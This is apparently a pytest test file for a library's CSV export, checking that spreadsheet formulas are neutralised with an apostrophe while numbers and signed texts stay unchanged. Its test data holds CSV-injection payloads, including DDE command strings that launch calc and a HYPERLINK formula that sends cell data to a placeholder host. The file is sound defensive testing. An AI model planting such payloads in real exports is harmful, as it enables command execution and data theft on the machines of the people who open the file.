"""CSV: the standard, and no formula."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sightline.data import Records, Table, export

FORMULAS = [
    "=1+1",
    "+A1",
    "-foo",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋A1",
    "－cmd|' /C calc'!A0",
    "＠SUM(A1)",
    '=HYPERLINK("http://h/?x="&A1)',
    "=-1",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\ufeff=1+1",
    "-1+A1%",
]


def rows(text: str) -> list[list[str]]:
    """What a reader of the standard library sees."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_neutralises_formulas_in_cells_and_headings(formula: str) -> None:
    """Whatever a spreadsheet would run gets an apostrophe in front, in headings too."""
    (head,), (cell,) = rows(Table.from_rows([[formula + "x"], [formula]]).to_csv())
    assert cell == "'" + formula
    assert head.startswith("'")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a;b; =1+1;c", "a;b;' =1+1;c"),
        ('a;"=1+1"', 'a;\'"=1+1"'),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\n=1+1", "\n'=1+1"),
        ("=1;=2", "'=1;'=2"),
        ("a;＝1+1", "a;'＝1+1"),
        ("1;-5;+3 %", "1;-5;+3 %"),
        ("a; b\nc", "a; b\nc"),
    ],
)
def test_csv_neutralises_formulas_where_semicolons_separate(text: str, expected: str) -> None:
    """A spreadsheet of such a country splits a text at its semicolons and lines, whatever stands around it."""
    assert rows(Table.from_rows([["a"], [text]]).to_csv())[1] == [expected]


@given(st.text("=+-@;\n\r\t \"'a1", max_size=10), st.text("=+-@;\n\r\t \"'a1", max_size=10))
def test_csv_split_at_semicolons_never_starts_like_a_formula(first: str, second: str) -> None:
    """However a reader splits the file that knows neither commas nor quotes, no piece is a formula."""
    written = Table.from_rows([["a", "b"], [first, second]]).to_csv()
    for piece in re.split(r"[;\t\r\n]", written):
        start = piece.lstrip(' "')
        assert start[:1] not in ("=", "@")
        if start[:1] in ("+", "-"):  # a name at the start or behind an operator would run
            assert not re.search(r"[-+=@] *a", re.split('[,"]', start)[0])


@pytest.mark.parametrize(
    "text",
    [
        *("-5", "+1.5", "-1,234.50", "-1.234,5", "-.5", "-1e5", "a=b", 'a,"=1+1"', "%0A=1", "5-3"),
        *(
            "+49 30 123",
            "+1-793-555-0100",
            "+1 (793) 555-0100",
            "-1+1",
            "+5 days",
            "-3 °C",
            "- 5",
            "+/-",
            "-12-05-2024",
        ),
    ],
)
def test_csv_leaves_numbers_and_other_texts_alone(text: str) -> None:
    """A plain number stays a number, and a sign inside a text is harmless."""
    assert rows(Table.from_rows([["a"], [text]]).to_csv())[1] == [text]


def test_csv_raw_writes_what_was_seen() -> None:
    """Who does not use a spreadsheet can have the texts untouched."""
    assert Table.from_rows([["=a"], ["=1+1"]]).to_csv(raw=True) == "=a\r\n=1+1\r\n"


def test_csv_tells_not_found_from_empty() -> None:
    """An empty field and an empty text in quotes."""
    assert Records([{"a": "", "b": None, "c": "x"}]).to_csv() == 'a,b,c\r\n"",,x\r\n'


def test_csv_never_writes_an_empty_line() -> None:
    """A reader would skip it, and rows would shift."""
    assert Records([{"a": None}, {"a": "x"}]).to_csv() == 'a\r\n""\r\nx\r\n'


def test_csv_typed_writes_one_form_for_all() -> None:
    """ISO dates, points for decimals; what could not be read stays as seen."""
    found = [["Preis", "Tag", "Zeit"], ["1.234,50 €", "15.4.2024", "14:30 Uhr"], ["-3 €", "n/a", "9:05 Uhr"]]
    expected = "Preis,Tag,Zeit\r\n1234.50,2024-04-15,14:30:00\r\n-3,n/a,09:05:00\r\n"
    assert Table.from_rows(found, language="de").to_csv(typed=True) == expected


def test_csv_has_every_column_of_every_record() -> None:
    """Columns come from the schema, not from the first record."""
    assert Records([{"a": "1"}, {"b": "2"}]).to_csv() == "a,b\r\n1,\r\n,2\r\n"


def test_csv_survives_surrogates_and_nuls() -> None:
    """What no encoding or reader can take is replaced."""
    content = export(Table.from_rows([["a\ud800"], ["b\x00c"]]), "csv").decode()
    assert rows(content) == [["a�"], ["b�c"]]


CELLS = st.none() | st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=8)


@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=5))
def test_csv_raw_round_trip(cells: list[tuple[str | None, str | None]]) -> None:
    """Any standard reader gets the texts back."""
    table = Table.from_rows([["a", "b"], *map(list, cells)])
    assert rows(table.to_csv(raw=True))[1:] == [[text or "" for text in row] for row in cells]


@given(st.text(max_size=12))
def test_csv_cell_never_starts_like_a_formula(text: str) -> None:
    """After neutralising, only plain numbers begin with a sign."""
    ((_,), *body) = rows(Table.from_rows([["a"], [text]]).to_csv())
    cell = body[0][0] if body else ""
    assert cell[:1] not in ("=", "@", "＝", "＠", "\t", "\r")
    if cell[:1] in ("+", "-", "＋", "－"):
        assert not re.match(r"\W*[^\W\d]", cell)


@pytest.mark.parametrize("harmless", ["-5%", "+1.1 %", "-$300", "-3 °C", "-", "--", "-1.234,50 €"])
def test_csv_leaves_signed_numbers_and_dashes_alone(harmless: str) -> None:
    """No spreadsheet runs a number with a unit, nor a dash; an apostrophe would spoil the data."""
    assert rows(Table.from_rows([["a"], [harmless]]).to_csv())[1] == [harmless]
